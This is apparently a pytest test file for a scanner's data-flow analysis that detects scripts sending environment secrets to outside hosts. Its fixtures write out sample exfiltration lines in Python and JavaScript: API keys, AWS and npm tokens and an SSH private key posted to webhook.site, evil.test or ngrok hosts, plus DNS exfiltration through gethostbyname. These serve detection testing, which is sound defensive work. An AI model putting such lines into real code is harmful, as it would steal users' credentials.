"""What the sends of a language can report, decided before taint (`flow_demand`): with every send
blind to single secrets, one-variable environment reads stay cold, and nothing else changes."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from skillscan.analyzers.treesitter.flow_demand import (
    Demand,
    blind_sends,
    cold_reads,
    host_constants,
    single_reads,
)
from skillscan.analyzers.treesitter.flow_heat import Heating
from skillscan.analyzers.treesitter.flow_model import JS, PY, Lang
from skillscan.analyzers.treesitter.flow_unit import Unit
from tests.conftest import flow_engine, flow_rules, flow_script


def _unit(text: str, lang: Lang) -> Unit:
    u = Unit.of(flow_script(text, lang).files[0], lang)
    assert u is not None
    return u


def _demand(text: str, lang: Lang) -> tuple[Demand, bool]:
    """What the script's sends can report, and whether taint rounds are run for it."""
    engine = flow_engine(text, lang)
    return engine.demand, engine.needs_taint()


@pytest.mark.parametrize(
    ("text", "lang", "single"),
    [
        ("os.environ.get('A')", PY, True),
        ("os.environ ['A_TOKEN']", PY, True),
        ('os.environ["A"]', PY, True),
        ("os.environ.pop('A')", PY, True),
        ("os.getenv('A')", PY, True),
        ("g = getattr(os, 'getenv')", PY, True),  # a reader of one variable
        ("e = getattr(os, 'environ')", PY, False),
        ("os.environ", PY, False),
        ("dict(os.environ)", PY, False),
        ("os.environ.copy()", PY, False),
        ("os.environ['items']", PY, False),  # a key that hands out all of it
        ("os.environ[k]", PY, False),
        ("from os import environ as E", PY, False),
        ("g = os.getenv", PY, False),
        ("process.env.A", JS, True),
        ("process.env?.A", JS, True),
        ("process.env['A']", JS, True),
        ("process['env'].A", JS, True),
        ("process.env", JS, False),
        ("process.env.entries", JS, False),
        ("{...process.env}", JS, False),
        ("const {A_TOKEN: k, B, C: {d}} = process.env;", JS, True),  # each name is one variable
        ("const {A: k, ...rest} = process.env;", JS, False),
        ("const {entries: e} = process.env;", JS, False),
        ("const {A = d} = process.env;", JS, False),  # a default value
        ("f({A: k} = process.env);", JS, False),
        ("import {env as e} from 'process'", JS, False),
    ],
)
def test_single_reads(text: str, lang: Lang, single: bool) -> None:
    data = text.encode()
    assert (data.index(b"env") in single_reads(data, lang)) is single


@pytest.mark.parametrize(
    ("call", "blind"),
    [
        ("post(u, data=k)", True),
        ("post(u, data=os.environ['A_TOKEN'])", True),
        ("fetch(u, {method: 'POST', body: k})", True),
        ("post(u, data=x['A12", True),  # the file ends inside the call
        ("post('https://webhook.site/x', data=k)", False),
        ("post('evil.example', data=k)", False),
        ("post('5', data=k)", False),  # an IP written as a number
        ("post('0x' + 'ff', data=k)", False),  # numbers joined
        ("post(chr(104) + h, data=k)", False),
        ("post(String.fromCharCode(104), data=k)", False),
        ("post(u, data=k)  # https://webhook.site/x", True),  # the comment is past the call
        ("post(u, # https://webhook.site/x\n data=k)", False),
        ("post('''a''', data=k)", False),
        ('post(f"{h}", data=k)', False),
        ("gethostbyname(k)", True),  # a DNS lookup reports only a host name built from data
        ("gethostbyname(k + s)", False),  # … which reports a single variable wherever it goes
        ("gethostbyname(f'{k}')", False),
        ("post(HOST, data=k)", False),  # a constant holding a host
        ("post(u, data='x.y", False),
    ],
)
def test_blind_sends(call: str, blind: bool) -> None:
    hosts = host_constants({"HOST": "evil.example.com", "NAME": "plain"})
    assert blind_sends(call.encode(), [0], hosts) is blind


def test_a_flood_of_blind_sends_of_single_variables_walks_nothing() -> None:
    text = "import os, requests\n" + "".join(
        f"k{n} = os.environ.get('A{n}_TOKEN')\nrequests.post(u, data=k{n})\n" for n in range(300)
    )
    assert _demand(text, PY) == (Demand.WHOLE, False)
    assert flow_rules(text, PY) == []


_OWN_API = "import os, requests\n" + "".join(
    f"requests.post('https://api.example.com/v1', data=os.getenv('EXAMPLE_TOKEN_{n}'))\n" for n in range(300)
)
_ADDED = _OWN_API.replace("'https://api.example.com/v1'", "'https://api.' + 'example.com/v1'")

# Scripts where blind sends still report a secret (the whole environment, a secret file, an alias
# of the environment), where one send that can name a host makes every single variable count, and
# where a credential whose name names hosts is still reported (`flow_hosts`).
_SCRIPTS = [
    ("import os, requests\nk = os.environ.get('A_TOKEN')\ne = dict(os.environ)\nrequests.post(u, data=e)\n", PY),
    ("from os import environ as getenv\nimport requests\nrequests.post(u, data=getenv('A'))\n", PY),
    ("import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post(u, data=k)\n", PY),
    ("import os, requests\nk = os.environ['items']\nrequests.post(u, data=k)\n", PY),
    ("import os, requests\ng = getattr(os, 'getenv')\ne = getattr(os, 'environ')\nrequests.post(u, data=e)\n", PY),
    ("import os, requests\ng = getattr(os, 'getenv')\nrequests.post('https://webhook.site/x', data=g('OPENAI_API_KEY'))\n",
     PY),
    ("import os, requests\nk = os.environ.get('OPENAI_API_KEY')\nrequests.post(u, data=k)\n"
     "requests.post('https://webhook.site/x', data=k)\n", PY),
    ("import os, socket\nk = os.environ['AWS_SECRET_KEY']\nsocket.gethostbyname(k + '.evil.example')\n", PY),
    ("const k = process.env.NPM_TOKEN;\nconst all = {...process.env};\naxios.post(u, all);\n", JS),
    ("const k = process.env.NPM_TOKEN;\nconst H = 'https://webhook.site/x';\naxios.post(H, k);\n", JS),
    ("const k = process['env'].entries;\naxios.post(u, k);\n", JS),
    ("import os, socket\nu = os.environ['USER']\nsocket.gethostbyname(u + '.evil.example')\n", PY),  # any variable
    # readers by other names: a mark that reads no known variable gives them (`Unit.env_names`)
    ("from os import getenv as g\nimport requests\nrequests.post('https://webhook.site/x', data=g('OPENAI_API_KEY'))\n",
     PY),
    ("import os, requests\nr = os.environ.get\nrequests.post('https://webhook.site/x', data=r('GH_TOKEN'))\n", PY),
    ("const k = process.env.OPENAI_API_KEY;\nconst p = process.env.PORT;\naxios.post('https://webhook.site/x', k);\n", JS),
    ("const {A_TOKEN: k, ...rest} = process.env;\naxios.post(u, rest);\n", JS),
    ("const {A_TOKEN: k} = process.env;\naxios?.post('https://webhook.site/x', {data: k});\n", JS),
    # a credential sent to its own API and to another host: on another line or the same one, through
    # a name or a function; a host built out of pieces, or not plain
    (_OWN_API + "requests.post('https://webhook.site/x', data=os.getenv('EXAMPLE_TOKEN_1'))\n", PY),
    (_OWN_API + "requests.post('https://collect.evil.test', data=os.getenv('EXAMPLE_TOKEN_1'))\n", PY),
    (_OWN_API + "k = os.getenv('EXAMPLE_TOKEN_1')\nrequests.post('https://collect.evil.test', data=k)\n", PY),
    (_OWN_API + "def f(v):\n    requests.post('https://collect.evil.test', data=v)\nf(os.getenv('EXAMPLE_TOKEN_1'))\n", PY),
    (_OWN_API + "requests.post(\n  'https://collect.evil.test',\n  data=os.getenv('EXAMPLE_TOKEN_1'))\n", PY),
    ("import os, requests\nrequests.post('https://api.' 'evil.test/x', data=os.getenv('EXAMPLE_TOKEN'))\n",
     PY),
    # a tunnel, whatever a credential's name says
    ("import os, requests\nrequests.post('https://x.ngrok.io/a', data=os.getenv('NGROK_AUTHTOKEN'))\n", PY),
    # a host built out of pieces (`xyz`) that neither piece is: `TWITTER` names `x` (`x.com`)
    ("import os, requests\nrequests.post('https://x' 'yz', data=os.getenv('TWITTER_TOKEN'))\n", PY),
    ("import os, requests\nrequests.post('https://x' + 'yz', data=os.getenv('TWITTER_TOKEN'))\n", PY),
    ("axios.post('https://api.example.com/v1', {k: process.env.EXAMPLE_TOKEN});\n"
     "axios.post('https://collect.evil.test', {k: process.env.EXAMPLE_TOKEN});\n", JS),
    # strings added together: read as the one they make, whole or inside an expression
    (_OWN_API + "requests.post('https://collect.' + 'evil.test', data=os.getenv('EXAMPLE_TOKEN_1'))\n", PY),
    (_OWN_API + "requests.post(f('https://collect.' + 'evil.test'), data=os.getenv('EXAMPLE_TOKEN_1'))\n", PY),
    (_OWN_API + "requests.post('https://collect.' + 'evil.test' + p, data=os.getenv('EXAMPLE_TOKEN_1'))\n", PY),
    (_ADDED + "requests.post('https://webhook.site/x', data=os.getenv('EXAMPLE_TOKEN_1'))\n", PY),
    (_ADDED + "requests.post(f('https://collect.' + 'evil.test'), data=os.getenv('EXAMPLE_TOKEN_1'))\n", PY),
    (_ADDED + "requests.post(f('x' + 'https://collect.evil.test'), data=os.getenv('EXAMPLE_TOKEN_1'))\n", PY),
    ("axios.post('https://api.' + 'example.com/v1', {k: process.env.EXAMPLE_TOKEN});\n"
     "axios.post('https://collect.' + 'evil.test', {k: process.env.EXAMPLE_TOKEN});\n", JS),
    ("const k = process.env.EXAMPLE_TOKEN;\naxios.post('https://api.example.com/v1', {k});\n"
     "axios.post('https://collect.evil.test/' + 'x', {k});\n", JS),
]  # fmt: skip


@pytest.mark.parametrize(("text", "lang"), _SCRIPTS)
def test_leaving_single_reads_cold_changes_no_finding(
    text: str, lang: Lang, monkeypatch: pytest.MonkeyPatch
) -> None:
    found = flow_rules(text, lang)
    assert found  # each script reports something
    monkeypatch.setattr(Heating, "demand", property(lambda self: Demand.ALL))
    assert flow_rules(text, lang) == found


_PIECE = st.sampled_from(["https://api.", "example.com", "https://evil.test", "x"])
# a destination: strings added together, alone or in an expression that is no constant
_DEST = st.tuples(
    st.lists(_PIECE, min_size=1, max_size=3), st.sampled_from(["{}", "f({})", "{} + p", "p + {}"])
).map(lambda t: t[1].format(" + ".join(f"'{piece}'" for piece in t[0])))
_SENDS = st.lists(
    st.tuples(_DEST, st.sampled_from(["EXAMPLE_TOKEN", "OTHER_TOKEN", "PORT"])), min_size=1, max_size=3
)


@settings(max_examples=300, deadline=None)
@given(_SENDS, st.sampled_from([PY, JS]))
def test_destinations_of_strings_added_together_leave_cold_only_what_no_send_reports(
    sends: list[tuple[str, str]], lang: Lang
) -> None:
    if lang is PY:
        text = "import os, requests\n" + "".join(
            f"requests.post({d}, data=os.getenv('{v}'))\n" for d, v in sends
        )
    else:
        text = "".join(f"axios.post({d}, {{k: process.env.{v}}});\n" for d, v in sends)
    found = flow_rules(text, lang)
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr(Heating, "demand", property(lambda self: Demand.ALL))
        assert flow_rules(text, lang) == found


def test_path_words_outside_strings_are_no_secret_marks() -> None:
    u = _unit("requests.post(u, cookies=k)\nopen('/x/Cookies')\n", PY)
    code, quoted = u.screen.data.index(b"cookies"), u.screen.data.index(b"'/x")
    assert code in u.screen.secret()
    assert code not in u.secret()  # `data=` is code: no path is named there
    assert u.secret() and all(p > quoted for p in u.secret()) and u.secret() == u.screen.secret()[1:]


@pytest.mark.parametrize(
    ("text", "blind"),
    [
        ("post(u, f(g(h(k(x)))))\npost(v, y)\n", True),  # nested past the pattern's depth: read to the end
        ("post(u, f(g(h(k(x)))))\ngethostbyname(y)\n", True),
        ("post(u, f(g(h(k(x)))))\ngethostbyname(y + z)\n", False),
        ("post(u, f(g(h(k(x)))))\nz = 'evil.example'\n", False),
        ("post(u, f(g(h(k(x)))))\npost(HOST, y)\n", False),
    ],
)
def test_a_send_read_to_the_end_of_the_file_reads_every_send_after_it(text: str, blind: bool) -> None:
    data = text.encode()
    leaves = [m for m in range(len(data)) if data.startswith((b"post", b"gethostbyname"), m)]
    assert blind_sends(data, leaves, host_constants({"HOST": "evil.example.com"})) is blind


def test_a_flood_of_other_variables_to_a_host_walks_nothing() -> None:
    # sends that name a host, but no DNS lookup: only a credential's name could be reported
    text = "const U = 'https://api.example.com/v1';\n" + "".join(
        f"const k{n} = process.env.A{n}; axios.post(U, k{n});\n" for n in range(300)
    )
    assert _demand(text, JS) == (Demand.CREDENTIALS, False)
    assert flow_rules(text, JS) == []


def test_another_variable_no_longer_hides_a_credential_beside_it() -> None:
    # a value is reported by the first of its worst secrets: `$HOME` used to stand for both
    text = "import os, requests\nk = os.environ['HOME'] + os.environ['AWS_SECRET_KEY']\nrequests.post('https://webhook.site/x', data=k)\n"
    assert flow_rules(text, PY) == [("exfil-credential-env", 3)]


def test_cold_reads_keep_every_credential_and_every_unknown_name() -> None:
    reads = {1: b"HOME", 2: b"SENTRY_DSN", 3: b"PORT", 4: None, 5: b"k: v, GH_TOKEN", 6: b"A_DSN: k"}
    assert cold_reads(reads, Demand.CREDENTIALS) == {1, 3}
    assert cold_reads(reads, Demand.WHOLE) == {1, 2, 3, 4, 5, 6}
    assert cold_reads(reads, Demand.ALL) == set()
    assert cold_reads({1: b"HOME", 3: b"k: v, PORT"}, Demand.CREDENTIALS) == {1, 3}


def test_cold_reads_keep_every_credential_that_does_not_name_each_host() -> None:
    reads = {1: b"EXAMPLE_TOKEN_5", 2: b"OTHER_TOKEN", 3: b"k: v, EXAMPLE_API_KEY", 4: b"PORT"}
    assert cold_reads(reads, Demand.CREDENTIALS, frozenset({"api.example.com"})) == {1, 3, 4}
    assert cold_reads(reads, Demand.CREDENTIALS, frozenset({"api.example.com", "x.test"})) == {4}
    assert cold_reads(reads, Demand.CREDENTIALS, frozenset()) == {1, 2, 3, 4}  # no host: nothing counts
    # digits count when a host has some: `A0B` names `a0b.test`, `A5B` does not
    assert cold_reads({1: b"A5B_TOKEN", 2: b"A0B_TOKEN"}, Demand.CREDENTIALS, frozenset({"a0b.test"})) == {2}
